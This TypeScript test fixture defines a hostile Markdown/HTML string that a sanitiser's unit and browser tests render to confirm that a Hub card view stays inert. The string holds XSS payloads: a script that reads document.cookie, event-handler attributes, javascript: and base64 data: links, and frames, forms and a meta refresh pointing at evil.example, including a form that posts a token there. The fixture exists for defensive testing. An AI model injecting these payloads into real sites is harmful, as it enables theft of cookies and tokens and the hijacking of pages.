/**
 * Markdown and raw HTML that try every way into a page: scripts, event handlers, javascript:/data: links,
 * frames, forms, overlays, huge images. The fake Hub serves it in the `hostile` card; the card sanitiser's
 * unit test renders it (with its own extra attacks) and the browser test checks the Hub view stays inert.
 */
export const HOSTILE_MARKDOWN = `<script>alert(document.cookie)</script>

<img src="x" onerror="alert('onerror')">

[click me](javascript:alert('markdown-link'))

<a href="javascript:alert('html-link')">html link</a>

<a href="JaVaScRiPt:alert('mixed-case')">mixed case link</a>

<iframe src="https://evil.example/steal" width="800" height="600"></iframe>

![huge image](https://evil.example/huge.png)

<img src="https://evil.example/huge.png" width="100000" height="100000" style="width:100000px;height:100000px">

<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999" onclick="alert('overlay')">overlay</div>

<svg onload="alert('svg')"><circle r="10"/></svg>

<form action="https://evil.example/collect"><input name="token" value="steal-me"><button>Submit</button></form>

<meta http-equiv="refresh" content="0;url=https://evil.example">

<style>body { display: none !important; }</style>

<object data="javascript:alert('object')"></object>

<embed src="javascript:alert('embed')">

[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<details open ontoggle="alert('ontoggle')"><summary>details</summary>body</details>`;
